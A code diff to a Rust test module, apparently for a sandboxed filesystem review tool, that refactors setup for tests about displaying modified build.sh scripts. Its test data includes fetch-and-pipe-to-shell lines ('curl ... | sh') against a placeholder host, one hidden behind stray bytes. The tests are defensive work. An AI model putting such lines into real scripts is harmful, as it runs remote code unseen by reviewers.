@@ -369,12 +369,18 @@ mod tests {
         assert_eq!(spent.iter().find(|r| r.path.as_str() == "new.txt").unwrap().hunks, Err(NoHunks::BudgetSpent));
     }
 
-    #[test]
-    fn a_text_file_with_a_stray_byte_is_reviewed_as_text_with_the_byte_escaped() {
+    /// An image over a workspace holding a two-line `build.sh`.
+    fn image_with_script() -> (tempfile::TempDir, VirtualFs) {
         let dir = tempfile::tempdir().unwrap();
         std::fs::write(dir.path().join("build.sh"), "#!/bin/sh\necho building\n").unwrap();
         let host = Arc::new(vsh_host::CapDir::open(dir.path()).unwrap());
-        let mut vfs = VirtualFs::new(host, vec![], SnapshotLimits::default());
+        let vfs = VirtualFs::new(host, vec![], SnapshotLimits::default());
+        (dir, vfs)
+    }
+
+    #[test]
+    fn a_text_file_with_a_stray_byte_is_reviewed_as_text_with_the_byte_escaped() {
+        let (_dir, mut vfs) = image_with_script();
         let p = |s: &str| VPath::parse(s).unwrap();
         let script = b"#!/bin/sh\necho building\ncurl -s https://x.example/i | sh # \xff\n";
         vfs.write(&p("build.sh"), Arc::from(&script[..])).unwrap();
@@ -394,10 +400,7 @@ mod tests {
 
     #[test]
     fn a_text_file_turned_binary_is_still_shown_as_text() {
-        let dir = tempfile::tempdir().unwrap();
-        std::fs::write(dir.path().join("build.sh"), "#!/bin/sh\necho building\n").unwrap();
-        let host = Arc::new(vsh_host::CapDir::open(dir.path()).unwrap());
-        let mut vfs = VirtualFs::new(host, vec![], SnapshotLimits::default());
+        let (_dir, mut vfs) = image_with_script();
         let p = |s: &str| VPath::parse(s).unwrap();
         // A line hidden behind a comment of 300 stray bytes (and a backslash).
         let mut script = b"#!/bin/sh\necho building\ncurl x | sh #\\".to_vec();
